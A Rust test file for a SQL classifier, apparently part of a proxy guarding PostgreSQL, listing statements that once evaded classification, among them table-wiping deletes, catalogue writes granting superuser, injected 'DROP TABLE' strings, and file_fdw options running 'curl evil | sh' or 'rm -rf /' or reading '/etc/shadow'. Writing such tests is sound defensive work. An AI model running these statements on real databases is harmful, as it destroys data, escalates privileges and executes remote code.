//! Statements that were classified less dangerously than they are, each with the class it must
//! get now, and the ordinary statements next to them that must keep their class. Every
//! destructive `DELETE`/`UPDATE` below was checked against PostgreSQL to change every row of a
//! table, or is the same shape with a parameter that can be bound to make it so.

use airlock_core::OpClass::{self, Destructive as D, Privilege as P, Read as R, Write as W};
mod common;
use airlock_sql::{classify, SqlConfig};

const CASES: &[(&str, OpClass)] = &[
    // Operators are functions wherever they are named, not only in `a op b`.
    ("SELECT 1 OPERATOR(myschema.===) ANY (SELECT 1)", D),
    ("SELECT * FROM t ORDER BY a USING OPERATOR(evil.<)", D),
    ("SELECT * FROM t ORDER BY a USING <<<", D),
    ("SELECT array_agg(a ORDER BY a USING OPERATOR(evil.<)) FROM t", D),
    ("SELECT row_number() OVER (ORDER BY a USING OPERATOR(evil.<)) FROM t", D),
    ("CREATE TABLE t (a int, EXCLUDE USING btree (a WITH OPERATOR(evil.===)))", D),
    ("ALTER TABLE t ADD CONSTRAINT c EXCLUDE USING gist (a WITH <<<)", D),
    ("SELECT * FROM t TABLESAMPLE evil(10)", D),
    ("SELECT * FROM t TABLESAMPLE myschema.system(10)", D),
    ("SELECT 1 = ANY (SELECT 1)", R),
    ("SELECT * FROM t WHERE a NOT IN (SELECT b FROM u)", R),
    ("SELECT * FROM t ORDER BY a USING <", R),
    ("SELECT * FROM t ORDER BY a USING OPERATOR(pg_catalog.>)", R),
    ("CREATE TABLE t (a int, EXCLUDE USING gist (a WITH =))", W),
    ("SELECT * FROM t TABLESAMPLE BERNOULLI (5) REPEATABLE (1)", R),
    ("SELECT * FROM t TABLESAMPLE system (5)", R),
    // Writing the system catalogues is writing roles, grants and settings (`UPDATE
    // pg_settings` runs set_config).
    ("UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'", P),
    ("UPDATE pg_catalog.pg_settings SET setting = 'evil' WHERE name = 'search_path'", P),
    ("UPDATE pg_authid SET rolsuper = true WHERE rolname = 'agent'", P),
    ("INSERT INTO pg_auth_members (roleid, member, grantor) VALUES (10, 16384, 10)", P),
    ("DELETE FROM pg_catalog.pg_proc WHERE proname = 'x'", P),
    ("COPY pg_authid FROM STDIN", P),
    ("TRUNCATE pg_catalog.pg_largeobject", P),
    ("WITH x AS (UPDATE pg_settings SET setting = 'x' WHERE name = 'role' RETURNING *) SELECT 1", P),
    ("SELECT * FROM pg_settings WHERE name = 'search_path'", R),
    ("UPDATE public.pg_settings SET a = 1 WHERE id = 1", W),
    // MERGE ... WHEN NOT MATCHED BY SOURCE acts on the rows the join condition does not match.
    ("MERGE INTO t USING (SELECT 1 AS id WHERE false) s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", D),
    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN UPDATE SET a = 0", D),
    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.stale THEN DELETE", W),
    ("MERGE INTO t USING s ON true WHEN MATCHED AND t.id = 5 THEN DELETE", W),
    ("MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)", W),
    // A target joined to itself: every row matches itself.
    ("MERGE INTO t USING t s ON t.id = s.id WHEN MATCHED THEN DELETE", D),
    ("DELETE FROM t USING t t2 WHERE t.id = t2.id", D),
    ("UPDATE t SET a = 1 FROM t t2 WHERE t.id = t2.id", D),
    ("DELETE FROM t USING (SELECT id FROM t) s WHERE t.id = s.id", D),
    ("WITH c AS (SELECT id FROM t) DELETE FROM t USING c WHERE t.id = c.id", D),
    ("DELETE FROM t WHERE id = ANY(ARRAY(SELECT x.id FROM t x))", D),
    ("WITH c AS (SELECT id FROM t) DELETE FROM t WHERE id IN (SELECT c.id FROM c)", D),
    // A subquery of the target alone, not naming the outer target: the rows its own condition
    // selects (job-queue dequeue, batch purge). Without a condition, with one that holds for
    // every row, or correlated, every row.
    ("UPDATE jobs SET status = 'running' WHERE id = (SELECT id FROM jobs WHERE status = 'queued' ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED)", W),
    ("UPDATE jobs j SET status = 'running' WHERE j.id = (SELECT q.id FROM jobs q WHERE q.status = 'queued' LIMIT 1 FOR UPDATE SKIP LOCKED) RETURNING j.*", W),
    ("DELETE FROM t WHERE id IN (SELECT id FROM t WHERE created_at < now() - interval '30 days' LIMIT 1000)", W),
    ("DELETE FROM t WHERE id = ANY (SELECT x.id FROM t x WHERE x.created_at < $1 ORDER BY x.id LIMIT $2)", W),
    ("DELETE FROM t WHERE id NOT IN (SELECT id FROM t WHERE pinned)", W),
    ("DELETE FROM t WHERE id IN (SELECT id FROM t LIMIT 1000)", D),
    ("DELETE FROM t WHERE id IN (SELECT id FROM t WHERE id = id)", D),
    ("DELETE FROM t WHERE id IN (SELECT id FROM t WHERE created_at < now() OR created_at >= now())", D),
    ("DELETE FROM t WHERE id IN (SELECT t2.id FROM t t2 WHERE t2.id = t.id)", D),
    ("DELETE FROM t x WHERE id IN (SELECT id FROM t WHERE id = x.id)", D),
    ("DELETE FROM t WHERE id IN (SELECT id FROM t y WHERE t.id = y.id)", D),
    ("DELETE FROM t WHERE id IN (SELECT id FROM t WHERE a = 1 UNION SELECT id FROM t)", D),
    ("DELETE FROM t WHERE id IN (SELECT id FROM t, u WHERE u.a = 1)", D),
    ("DELETE FROM t WHERE id NOT IN (SELECT id FROM t WHERE pinned LIMIT 0)", D),
    ("DELETE FROM t WHERE id NOT IN (SELECT id FROM t WHERE false)", D),
    ("DELETE FROM t WHERE id <> (SELECT id FROM t WHERE a = 1 LIMIT 1)", D),
    ("DELETE FROM t WHERE id IN (SELECT id FROM t WHERE id IN (SELECT id FROM t))", D),
    ("WITH t AS (SELECT id, true AS f FROM u) DELETE FROM t WHERE id IN (SELECT id FROM t WHERE f)", D),
    ("WITH c AS (SELECT id FROM t), d AS (SELECT * FROM c) DELETE FROM t WHERE id IN (SELECT d.id FROM d)", D),
    ("INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET a = 0", D),
    ("UPDATE orders SET status = 'shipped' FROM shipments s WHERE s.order_id = orders.id AND s.sent", W),
    ("WITH c AS (SELECT tid FROM u) DELETE FROM t WHERE id IN (SELECT c.tid FROM c)", W),
    ("INSERT INTO t SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET a = excluded.a", W),
    ("INSERT INTO t (id, x) VALUES (1, (SELECT max(x) FROM t)) ON CONFLICT (id) DO UPDATE SET x = EXCLUDED.x", W),
    ("INSERT INTO t (id, x) SELECT s.id, (SELECT max(x) FROM t) FROM staging s WHERE s.id NOT IN (SELECT id FROM t) ON CONFLICT (id) DO UPDATE SET x = EXCLUDED.x", W),
    ("INSERT INTO t (id, x) VALUES (1, 2), (3, 4) ON CONFLICT (id) DO UPDATE SET x = EXCLUDED.x", W),
    ("INSERT INTO t SELECT * FROM staging UNION ALL SELECT * FROM t ON CONFLICT (id) DO UPDATE SET a = 0", D),
    ("INSERT INTO t SELECT * FROM staging JOIN t USING (id) ON CONFLICT (id) DO UPDATE SET a = 0", D),
    ("INSERT INTO t SELECT g, 0 FROM generate_series(1, (SELECT max(id) FROM t)) g ON CONFLICT (id) DO UPDATE SET a = 0", D),
    ("INSERT INTO t WITH c AS (SELECT * FROM t) SELECT * FROM c ON CONFLICT (id) DO UPDATE SET a = 0", D),
    ("WITH c AS (SELECT * FROM t) INSERT INTO t SELECT * FROM c ON CONFLICT (id) DO UPDATE SET a = 0", D),
    ("INSERT INTO t SELECT * FROM (SELECT * FROM t) s ON CONFLICT (id) DO UPDATE SET a = 0", D),
    ("INSERT INTO t SELECT * FROM t WHERE id = 1", W),
    // Conditions that hold for every row: negations, tests of tests, complements.
    ("DELETE FROM t WHERE NOT (id = 5 AND false)", D),
    ("DELETE FROM t WHERE (id = id) IS NOT FALSE", D),
    ("DELETE FROM t WHERE (id = id) IS TRUE", D),
    ("DELETE FROM t WHERE (id IS NULL) IS NOT NULL", D),
    ("DELETE FROM t WHERE id IS NULL OR id IS NOT NULL", D),
    ("DELETE FROM t WHERE deleted OR NOT deleted OR deleted IS NULL", D),
    ("DELETE FROM t WHERE a = 1 OR a <> 1", D),
    ("DELETE FROM t WHERE a < $1 OR a >= $2", D),
    // ... written in another order, or with a cast constant.
    ("DELETE FROM t WHERE a = 1 OR 1 <> a", D),
    ("DELETE FROM t WHERE a < 5 OR 5 <= a", D),
    ("DELETE FROM t WHERE 5 > a OR a >= 5", D),
    ("DELETE FROM t WHERE a = 1 OR a <> 1::int", D),
    ("DELETE FROM t WHERE a = '1'::text OR a <> $1::text", D),
    ("DELETE FROM t WHERE (x.b = a) IS NULL OR (a = x.b) IS NOT NULL", D),
    ("DELETE FROM t WHERE a < 5 OR 5 < a", W),
    ("DELETE FROM t WHERE a = 1 OR 1 = a", W),
    ("DELETE FROM t WHERE a IS DISTINCT FROM 1 OR a IS NOT DISTINCT FROM 1", D),
    ("DELETE FROM t WHERE NOT (deleted IS TRUE AND deleted IS NOT TRUE)", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 WHERE false AND t.id = 1)", D),
    ("DELETE FROM t WHERE NOT active", W),
    ("DELETE FROM t WHERE NOT (a = 1 AND b = 2)", W),
    ("DELETE FROM t WHERE archived IS TRUE", W),
    ("DELETE FROM t WHERE deleted_at IS NULL AND id = 3", W),
    ("DELETE FROM t WHERE data->>'kind' IS NULL", W),
    // A few strict built-ins are NULL exactly when an argument is.
    ("UPDATE users SET email = NULL WHERE lower(email) IS NULL", W),
    ("DELETE FROM t WHERE pg_catalog.upper(trim(name)) IS NOT NULL", W),
    ("DELETE FROM t WHERE date_trunc('day', created_at) IS NULL", W),
    ("DELETE FROM t WHERE length(lower(name)) IS NULL", W),
    ("DELETE FROM t WHERE coalesce(name, 'x') IS NULL", D),
    ("DELETE FROM t WHERE nullif(name, name) IS NULL", D),
    ("DELETE FROM t WHERE lower(coalesce(name, 'x')) IS NULL", D),
    ("DELETE FROM t WHERE lower('x') IS NULL", D),
    ("DELETE FROM t WHERE myschema.lower(name) IS NULL", D),
    ("DELETE FROM t WHERE status IN ('a', 'b') OR priority < 3", W),
    // A subquery or a whole row that carries the target's own column back: `id = id`.
    ("DELETE FROM t WHERE id IN (SELECT t.id)", D),
    ("DELETE FROM t WHERE id IN (SELECT id)", D),
    ("DELETE FROM t WHERE id = ANY (SELECT t.id FROM u)", D),
    ("DELETE FROM t WHERE id IN (SELECT x FROM (SELECT t.id AS x) s)", D),
    ("DELETE FROM t WHERE EXISTS (SELECT t.id)", D),
    ("DELETE FROM t WHERE EXISTS (SELECT 1 WHERE t.id = t.id)", D),
    ("DELETE FROM t WHERE EXISTS (SELECT count(*) FROM u WHERE u.id = t.id)", D),
    ("DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id GROUP BY ())", D),
    ("DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id UNION SELECT 1)", D),
    ("DELETE FROM t WHERE id::text = row_to_json(t)->>'id'", D),
    ("DELETE FROM t WHERE id::text = to_jsonb(t.*)->>'id'", D),
    ("DELETE FROM t WHERE id = (SELECT x FROM (SELECT t.id AS x) s)", D),
    ("DELETE FROM t WHERE id = (SELECT t.id + x FROM (SELECT 0 AS x) s)", D),
    ("DELETE FROM t WHERE tableoid = 't'::regclass", D),
    ("DELETE FROM cart_items WHERE cart_id IN (SELECT c.id FROM carts c WHERE c.abandoned)", W),
    ("DELETE FROM cart_items WHERE cart_id IN (SELECT id FROM carts WHERE abandoned)", W),
    ("DELETE FROM orders o WHERE NOT EXISTS (SELECT 1 FROM users u WHERE u.id = o.user_id)", W),
    ("DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)", W),
    ("DELETE FROM t WHERE EXISTS (SELECT 1 WHERE t.deleted)", W),
    ("DELETE FROM t WHERE id = (SELECT max(u.tid) FROM u)", W),
    ("DELETE FROM status WHERE status = 'x'", W),
    ("DELETE FROM t USING u WHERE t.payload = to_jsonb(u.*)", W),
    // `x op ALL (empty)` and `NOT (x op ANY (empty))` hold for every row; a parameter or a
    // literal may be the empty array.
    ("DELETE FROM t WHERE id <> ALL('{}')", D),
    ("DELETE FROM t WHERE id <> ALL($1)", D),
    ("DELETE FROM t WHERE NOT (id = ANY($1))", D),
    ("DELETE FROM t WHERE id <> ALL(ARRAY[]::int[])", D),
    ("DELETE FROM t WHERE id NOT IN (SELECT 1 WHERE false)", D),
    ("WITH e AS (SELECT 1 AS x WHERE false) DELETE FROM t WHERE id NOT IN (SELECT x FROM e)", D),
    // A subquery empty by its form (`LIMIT 0`, `WHERE false`, `EXCEPT` of itself, a function
    // that returns no rows) under NOT EXISTS, NOT IN or `<> ALL`: every row.
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.id = t.id LIMIT 0)", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.id = t.id OFFSET 1000000000)", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.id = t.id LIMIT $1)", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u, generate_series(1, 0) g WHERE u.id = t.id)", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u JOIN v ON false WHERE u.id = t.id)", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM (SELECT * FROM u LIMIT 0) s WHERE s.id = t.id)", D),
    ("DELETE FROM t WHERE id NOT IN (SELECT u.tid FROM u WHERE false)", D),
    ("DELETE FROM t WHERE id NOT IN (SELECT u.tid FROM u WHERE u.a = 1 AND false)", D),
    ("DELETE FROM t WHERE id <> ALL (SELECT u.tid FROM u WHERE false)", D),
    ("DELETE FROM t WHERE NOT (id = ANY (SELECT u.tid FROM u LIMIT 0))", D),
    ("DELETE FROM t WHERE id NOT IN (SELECT u.tid FROM u EXCEPT SELECT u.tid FROM u)", D),
    ("DELETE FROM t WHERE id NOT IN (SELECT u.tid FROM u TABLESAMPLE system (0))", D),
    ("DELETE FROM t WHERE id NOT IN (SELECT u.tid FROM u GROUP BY u.tid HAVING false)", D),
    ("DELETE FROM t WHERE id <> ALL (ARRAY(SELECT u.tid FROM u WHERE false))", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u JOIN v ON v.uid = u.id WHERE u.id = t.id)", W),
    ("DELETE FROM \"t\" WHERE NOT (EXISTS(SELECT 1 AS \"a\" FROM \"u\" U0 WHERE U0.\"id\" = (\"t\".\"uid\") LIMIT 1))", W),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.id = t.id FETCH FIRST 1 ROW ONLY)", W),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.id = t.id LIMIT 1 OFFSET 5)", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.id = t.id LIMIT ALL)", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.id = t.id LIMIT 1 - 1)", D),
    ("DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u LEFT JOIN v ON false WHERE u.id = t.id)", W),
    ("DELETE FROM t WHERE id NOT IN (SELECT u.tid FROM u WHERE u.active)", W),
    ("DELETE FROM t WHERE id NOT IN (SELECT tid FROM u WHERE active AND kind = 'x')", W),
    ("DELETE FROM t WHERE id <> ALL (SELECT u.tid FROM u JOIN v USING (k))", W),
    ("DELETE FROM t WHERE id <> ALL (ARRAY(SELECT u.tid FROM u))", W),
    ("DELETE FROM t WHERE id IN (SELECT u.tid FROM u WHERE u.a = 1 LIMIT 10)", W),
    ("DELETE FROM t WHERE id = ANY($1)", W),
    ("DELETE FROM t WHERE id <> ALL(ARRAY[1, 2])", W),
    ("DELETE FROM t WHERE id NOT IN (SELECT u.tid FROM u)", W),
    ("DELETE FROM t WHERE id <> ALL(t.tags)", W),
    // A LIKE pattern that is not a literal may be '%'.
    ("DELETE FROM t WHERE name LIKE '%' || ''", D),
    ("UPDATE t SET a = 1 WHERE name ILIKE lower($1)", D),
    ("DELETE FROM t WHERE name LIKE 'abc%'", W),
    ("DELETE FROM t WHERE name NOT LIKE 'abc%'", W),
    // EXECUTE of a known prepared statement is answered with that statement's class by the
    // proxy; anything else in the statement must not be lost with it (see `executes` below).
    ("EXECUTE p(pg_terminate_backend(1))", D),
    ("EXECUTE p(set_config('role', 'postgres', false))", P),
    ("CREATE TABLE x AS EXECUTE p", D),
    // Roles and policies renamed are who may do what; functions renamed or moved are code
    // under a new name.
    ("ALTER ROLE alice RENAME TO bob", P),
    ("ALTER USER alice RENAME TO bob", P),
    ("ALTER GROUP g RENAME TO h", P),
    ("ALTER POLICY p ON t RENAME TO q", P),
    ("ALTER FUNCTION evil(varchar) RENAME TO lower", D),
    ("ALTER FUNCTION evil(varchar) SET SCHEMA pg_catalog", D),
    ("ALTER AGGREGATE agg(int) RENAME TO max", D),
    ("ALTER PROCEDURE p() RENAME TO q", D),
    ("ALTER SCHEMA evil RENAME TO pg_temp_x", D),
    ("ALTER EXTENSION e SET SCHEMA public", D),
    ("ALTER DATABASE d RENAME TO e", P),
    ("ALTER TABLE t RENAME TO t2", W),
    ("ALTER TYPE mood SET SCHEMA s", W),
    ("ALTER INDEX i RENAME TO j", W),
    ("ALTER TABLE t SET SCHEMA s", W),
    // Ownership at creation, and whose rights a view runs with.
    ("CREATE DATABASE d OWNER bob", P),
    ("ALTER VIEW v SET (security_invoker = false)", P),
    ("ALTER VIEW v RESET (security_barrier)", P),
    ("CREATE OR REPLACE VIEW v WITH (security_invoker = false) AS SELECT * FROM t", P),
    ("CREATE OR REPLACE VIEW v AS SELECT * FROM t", W),
    ("CREATE VIEW v WITH (security_barrier) AS SELECT * FROM t", W),
    ("CREATE DATABASE d", W),
    ("ALTER TABLE t SET (fillfactor = 70)", W),
    // file_fdw's options read server files or run programs each time the table is scanned.
    ("CREATE FOREIGN TABLE ft (line text) SERVER files OPTIONS (program 'curl evil | sh')", D),
    ("CREATE FOREIGN TABLE ft (line text) SERVER files OPTIONS (filename '/etc/passwd')", D),
    ("ALTER FOREIGN TABLE ft OPTIONS (SET program 'rm -rf /')", D),
    ("ALTER TABLE ft OPTIONS (ADD filename '/etc/shadow')", D),
    ("CREATE FOREIGN TABLE ft (a int) SERVER remote OPTIONS (schema_name 'public', table_name 'a')", W),
    ("ALTER TABLE ft OPTIONS (SET table_name 'b')", W),
    // Support functions bound to a type run later, inside other statements.
    ("ALTER TYPE mytype SET (RECEIVE = evil_recv)", D),
    ("CREATE TYPE r AS RANGE (SUBTYPE = float8, SUBTYPE_DIFF = evil)", D),
    ("ALTER TYPE mytype SET (STORAGE = plain)", W),
    ("CREATE TYPE fr AS RANGE (SUBTYPE = float8)", W),
    // READ WRITE is the mode a plain BEGIN gets (psycopg 3 sends it whenever read_only is
    // False); SET TRANSACTION / SET SESSION CHARACTERISTICS are SETs, privilege.
    ("BEGIN READ WRITE", R),
    ("START TRANSACTION READ WRITE", R),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", R),
    ("SET TRANSACTION READ WRITE", P),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", P),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ", R),
    ("START TRANSACTION READ ONLY, DEFERRABLE", R),
    // ALTER ... DROP of a constraint (NOT NULL is one, like DROP CONSTRAINT). DROP DEFAULT is
    // SET DEFAULT NULL: write (Django emits it for every new field with a default).
    ("ALTER TABLE t ALTER COLUMN c DROP NOT NULL", D),
    ("ALTER TABLE t DROP CONSTRAINT c", D),
    ("ALTER DOMAIN d DROP NOT NULL", D),
    ("ALTER DOMAIN d DROP CONSTRAINT c", D),
    ("ALTER TABLE t ALTER COLUMN c DROP DEFAULT", W),
    ("ALTER TABLE \"app_user\" ALTER COLUMN \"score\" SET DEFAULT 0, ALTER COLUMN \"score\" DROP DEFAULT", W),
    ("ALTER TABLE t ALTER COLUMN c SET DEFAULT NULL", W),
    ("ALTER DOMAIN d DROP DEFAULT", W),
    ("ALTER TEXT SEARCH CONFIGURATION c DROP MAPPING FOR word", D),
    ("ALTER TABLE t ALTER COLUMN c SET DEFAULT 0", W),
    ("ALTER TABLE t ALTER COLUMN c SET NOT NULL", W),
    ("ALTER DOMAIN d SET DEFAULT 1", W),
    ("ALTER DOMAIN d SET NOT NULL", W),
    ("ALTER TEXT SEARCH CONFIGURATION c ALTER MAPPING FOR word WITH simple", W),
    ("ALTER TEXT SEARCH DICTIONARY d (StopWords = english)", W),
    ("ALTER TABLE t REPLICA IDENTITY FULL", W),
    // A string that a server with standard_conforming_strings off reads past its end.
    ("SELECT 'x\\' , $$'; DROP TABLE t; --$$", D),
    ("SELECT N'x\\' , $$'; DROP TABLE t; --$$", D),
    ("SELECT 'C:\\dir\\'", D),
    ("SELECT E'it\\'s', 'a\\b', $$a\\'b$$, 'it''s' -- it\\'s", R),
    // Still reads.
    ("SELECT a, count(*) FROM t WHERE id = $1 GROUP BY a", R),
    ("SELECT abalance FROM pgbench_accounts WHERE aid = 48213", R),
    ("SELECT u.id, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE lower(u.email) = 'x' AND o.ts > now() - interval '1 day' ORDER BY o.total DESC LIMIT 20", R),
    ("SELECT coalesce(a, 0), nullif(b, 1) FROM t WHERE a IS DISTINCT FROM b", R),
    ("WITH x AS (SELECT id FROM a), y AS (SELECT id FROM x) SELECT * FROM y JOIN b USING (id)", R),
    ("UPDATE pgbench_accounts SET abalance = abalance + -4420 WHERE aid = 48213", W),
    ("UPDATE pgbench_tellers SET tbalance = tbalance + $1 WHERE tid = $2", W),
    ("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 2, 3, 4, CURRENT_TIMESTAMP)", W),
    ("UPDATE pgbench_branches SET bbalance = bbalance + 10 WHERE bid = 1", W),
    ("SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3", R),
    ("UPDATE \"users\" SET \"name\" = $1 WHERE \"users\".\"id\" = $2", W),
    ("DELETE FROM \"sessions\" WHERE \"sessions\".\"expires_at\" < $1", W),
    ("INSERT INTO \"users\" (\"id\", \"name\") VALUES ($1, $2) ON CONFLICT (\"id\") DO UPDATE SET \"name\" = EXCLUDED.\"name\"", W),
    ("DELETE FROM t WHERE id = ANY($1)", W),
    ("SELECT id FROM jobs WHERE status = 'queued' ORDER BY id LIMIT 10 FOR UPDATE SKIP LOCKED", W),
    ("BEGIN", R),
    ("BEGIN ISOLATION LEVEL READ COMMITTED, READ WRITE", R),
];

#[test]
fn former_bypasses_get_their_class() {
    let failures = common::mismatches(CASES);
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// The proxy replaces a statement's operations with those remembered for `executes`: the name
/// is given only when running the prepared statement is all the statement does.
#[test]
fn execute_names_the_prepared_statement_only_when_that_is_all_it_runs() {
    let cfg = SqlConfig::default();
    let executes = |sql: &str| classify(sql, &cfg).statements[0].executes.clone();
    assert_eq!(executes("EXECUTE p(1, 'x', now())").as_deref(), Some("p"));
    assert_eq!(
        executes("EXPLAIN ANALYZE EXECUTE p(1)").as_deref(),
        Some("p")
    );
    for sql in [
        "EXECUTE p(pg_terminate_backend(1))",
        "EXECUTE p(set_config('role', 'postgres', false))",
        "EXECUTE p((SELECT secret FROM vault))",
        "EXPLAIN ANALYZE EXECUTE p(evil())",
        "CREATE TABLE x AS EXECUTE p",
    ] {
        let c = classify(sql, &cfg);
        assert_eq!(c.statements[0].executes, None, "{sql}");
        assert!(c.class() >= OpClass::Destructive, "{sql}");
    }
}

/// A name a WITH clause defines is a CTE only where PostgreSQL sees it; elsewhere in the
/// statement a table of that name is still reported.
#[test]
fn tables_shadowed_by_a_cte_elsewhere_are_still_reported() {
    let cfg = SqlConfig::default();
    let tables = |sql: &str| -> Vec<String> {
        classify(sql, &cfg)
            .operations()
            .filter(|o| o.resource_kind == "table")
            .filter_map(|o| o.resource_id.clone())
            .collect()
    };
    // The CTE's own body reads the table.
    assert_eq!(
        tables("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets"),
        ["secrets"]
    );
    // A CTE in a subquery does not reach the outer FROM.
    assert_eq!(
        tables("SELECT (WITH secrets AS (SELECT 1) SELECT 1), * FROM secrets"),
        ["secrets"]
    );
    // A later CTE is not visible to an earlier one without RECURSIVE.
    assert_eq!(
        tables("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a"),
        ["b"]
    );
    assert!(
        tables("WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").is_empty()
    );
    // A DML target and a SELECT INTO target are tables even when a CTE has their name.
    assert_eq!(
        tables(
            "WITH a AS (SELECT 1), d AS (DELETE FROM a WHERE x = 1 RETURNING *) SELECT * FROM d"
        ),
        ["a"]
    );
    assert_eq!(tables("WITH t AS (SELECT 1) SELECT * INTO t FROM t"), ["t"]);
    // Where the CTE is in scope, it is not a table (no more over-reporting in UPDATE ... FROM).
    assert_eq!(
        tables("WITH c AS (SELECT id FROM u) UPDATE t SET a = 1 FROM c WHERE t.id = c.id"),
        ["t", "u"]
    );
    assert!(
        tables("WITH bookings AS (SELECT 1) SELECT (SELECT count(*) FROM bookings)").is_empty()
    );
}

#[test]
fn notes_say_why() {
    let cfg = SqlConfig::default();
    let notes = |sql: &str| classify(sql, &cfg).statements[0].notes.join("\n");
    assert!(
        notes("UPDATE pg_settings SET setting = 'x' WHERE name = 'role'")
            .contains("system catalogue")
    );
    assert!(notes("DELETE FROM t USING t t2 WHERE t.id = t2.id").contains("joined to itself"));
    assert!(notes("SELECT * FROM t ORDER BY a USING <<<").contains("operator `<<<`"));
    assert!(
        notes("CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (program 'x')").contains("program")
    );
    assert!(notes("CREATE TABLE x AS EXECUTE p").contains("classified on its own"));
    // The note says what the ALTER does: DROP NOT NULL drops a constraint, not data.
    let n = notes("ALTER TABLE t ALTER COLUMN c DROP NOT NULL");
    assert!(
        n.contains("drops a constraint") && !n.contains("data:"),
        "{n}"
    );
    assert!(notes("ALTER TABLE t DROP COLUMN c").contains("drops, detaches or rewrites data"));
    assert!(notes("ALTER TABLE t DISABLE TRIGGER ALL").contains("triggers or rules"));
    assert!(notes("ALTER TABLE t ALTER COLUMN c DROP DEFAULT").is_empty());
    let c = classify("SELECT 'x\\' , $$'; DROP TABLE t; --$$", &cfg);
    assert_eq!(c.statements[0].tag, airlock_sql::UNCLASSIFIABLE);
    assert!(c.statements[0].notes[0].contains("standard_conforming_strings"));
}
